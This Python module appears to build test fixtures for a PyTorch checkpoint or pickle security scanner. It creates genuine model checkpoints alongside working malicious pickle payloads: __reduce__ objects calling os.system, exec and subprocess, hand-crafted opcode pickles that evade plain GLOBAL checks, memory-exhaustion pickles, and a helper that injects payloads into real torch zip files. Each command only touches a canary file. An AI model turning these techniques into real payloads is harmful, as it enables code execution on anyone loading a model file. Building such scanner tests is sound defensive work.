"""Builders of real checkpoints (with torch) and hostile payloads (by __reduce__ and by hand-written opcodes)."""

from __future__ import annotations

import argparse
import json
import os
import pickle
import struct
import zipfile

import numpy as np
import torch
from torch import nn


class Net(nn.Module):
    """A tiny model with parameters and buffers (BatchNorm)."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(1, 2, 3)
        self.bn = nn.BatchNorm2d(2)
        self.fc = nn.Linear(8, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(self.bn(self.conv(x)).flatten(1))


_OFFSET = torch.arange(2.0)


class WithConstant(nn.Module):
    """Traced, the captured tensor lands in TorchScript's constants.pkl and the input in traced_inputs.pkl."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(2, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x) + _OFFSET


def net(seed: int = 0) -> Net:
    torch.manual_seed(seed)
    return Net()


def save(obj, path, **kwargs) -> str:
    torch.save(obj, path, **kwargs)
    return str(path)


def optimizer_state(model: nn.Module) -> dict:
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.randn(2, 1, 4, 4)).sum().backward()
    opt.step()
    return opt.state_dict()


def lightning_style(model: nn.Module) -> dict:
    return {
        "epoch": 3,
        "global_step": 120,
        "pytorch-lightning_version": "2.1.0",
        "state_dict": {f"model.{k}": v for k, v in model.state_dict().items()},
        "optimizer_states": [optimizer_state(model)],
        "lr_schedulers": [],
        "hyper_parameters": {"lr": 0.001, "layers": [2, 3]},
    }


def training_dict(model: nn.Module, *, with_numpy: bool = True) -> dict:
    ckpt = {"model": model.state_dict(), "optimizer": optimizer_state(model), "epoch": 7, "loss": 0.25}
    if with_numpy:
        ckpt["args"] = argparse.Namespace(lr=0.1, batch_size=32)
        ckpt["best_acc"] = np.float64(0.91)
    return ckpt


def write_safetensors(path, tensors: dict[str, torch.Tensor], metadata: dict | None = None) -> str:
    """The safetensors layout by hand: u64 header length, JSON header, raw little-endian bytes."""
    codes = {torch.float32: "F32", torch.float16: "F16", torch.bfloat16: "BF16", torch.int64: "I64"}
    header: dict = {"__metadata__": metadata} if metadata else {}
    blobs, offset = [], 0
    for name, t in tensors.items():
        data = t.contiguous().view(torch.uint8).numpy().tobytes()
        header[name] = {"dtype": codes[t.dtype], "shape": list(t.shape), "data_offsets": [offset, offset + len(data)]}
        blobs.append(data)
        offset += len(data)
    raw = json.dumps(header).encode()
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(raw)) + raw + b"".join(blobs))
    return str(path)


def replace_data_pkl(src: str, dst: str, payload: bytes | None = None, compression: int = zipfile.ZIP_STORED) -> str:
    """Copy a torch zip, swapping its data.pkl for `payload` (how payloads are injected into real files),
    optionally recompressing every record."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", compression) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if payload is not None and info.filename.endswith("/data.pkl"):
                data = payload
            zout.writestr(info.filename, data)
    return dst


class Reduce:
    """An object whose unpickling calls func(*args): the classic pickle code-execution payload."""

    def __init__(self, func, *args) -> None:
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def touch_code(canary: str) -> str:
    return f"open({canary!r}, 'w').write('pwned')"


def reduce_payloads(canary: str) -> dict[str, object]:
    """Objects whose unpickling would create `canary`, through different dangerous callables."""
    import builtins
    import subprocess

    import torch.utils.collect_env as collect_env

    return {
        "os.system": Reduce(os.system, f"touch {canary}"),
        "builtins.exec": Reduce(builtins.exec, touch_code(canary)),
        "builtins.eval": Reduce(builtins.eval, touch_code(canary)),
        "subprocess.call": Reduce(subprocess.call, ["touch", canary]),
        "collect_env.run": Reduce(collect_env.run, f"touch {canary}"),
    }


def opcode_payloads(canary: str) -> dict[str, bytes]:
    """Hand-written pickles that run code without a plain GLOBAL of the dangerous name."""
    cmd = f"touch {canary}".encode()
    code = touch_code(canary).encode()

    def su(s: bytes) -> bytes:  # SHORT_BINUNICODE
        return b"\x8c" + bytes([len(s)]) + s

    return {
        # getattr(__import__('os'), 'system')('touch …'): a dynamic call through a getattr chain
        "getattr-chain": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'" + cmd + b"'\ntR.",
        # STACK_GLOBAL with the names placed in the memo first (protocol 4)
        "stack-global-memo": (
            b"\x80\x04" + su(b"posix") + b"\x94" + su(b"system") + b"\x94" + b"h\x00h\x01\x93" + su(cmd) + b"\x85R."
        ),
        # INST and OBJ opcodes of protocol 0/1
        "inst": b"(S'" + cmd + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'" + cmd + b"'\no.",
        # importlib.import_module('os').system via a computed STACK_GLOBAL
        "importlib": (
            b"\x80\x04cimportlib\nimport_module\n"
            + su(b"os")
            + b"\x85R"
            + su(b"system")
            + b"\x93"
            + su(cmd)
            + b"\x85R."
        ),
        # builtins.exec with Python source
        "exec": b"\x80\x02cbuiltins\nexec\nX" + struct.pack("<I", len(code)) + code + b"\x85R.",
    }


def structural_payloads() -> dict[str, bytes]:
    """Opcode tricks that run code on imported objects even with harmless-looking names."""
    return {
        "build-on-global": b"\x80\x02ccollections\nOrderedDict\n}X\x01\x00\x00\x00aK\x01sb.",
        "setitem-on-global": b"\x80\x02ccollections\nOrderedDict\nX\x01\x00\x00\x00aK\x01s.",
        "extension-code": b"\x80\x02\x82\x01)R.",
        "call-a-call": b"\x80\x02cbuiltins\nslice\n)R)R.",
    }


def billion_laughs(levels: int = 30, width: int = 10) -> bytes:
    """Each list holds `width` references to the previous one: width**levels nodes as a tree."""
    out = [b"\x80\x02]q\x00"]
    for i in range(1, levels + 1):
        out.append(b"(" + (b"h" + bytes([i - 1])) * width + b"lq" + bytes([i]))
    out.append(b".")
    return b"".join(out)


def deep_nesting(depth: int) -> bytes:
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


def canary_runs(payload: bytes, canary: str) -> bool:
    """Prove a payload is real: unpickle it for real in a throwaway subprocess and look for the canary."""
    import subprocess
    import sys

    subprocess.run(
        [sys.executable, "-c", "import pickle,sys; pickle.loads(sys.stdin.buffer.read())"],
        input=payload,
        capture_output=True,
        timeout=60,
    )
    ran = os.path.exists(canary)
    if ran:
        os.remove(canary)
    return ran


def dumps(obj, protocol: int = 2) -> bytes:
    return pickle.dumps(obj, protocol=protocol)
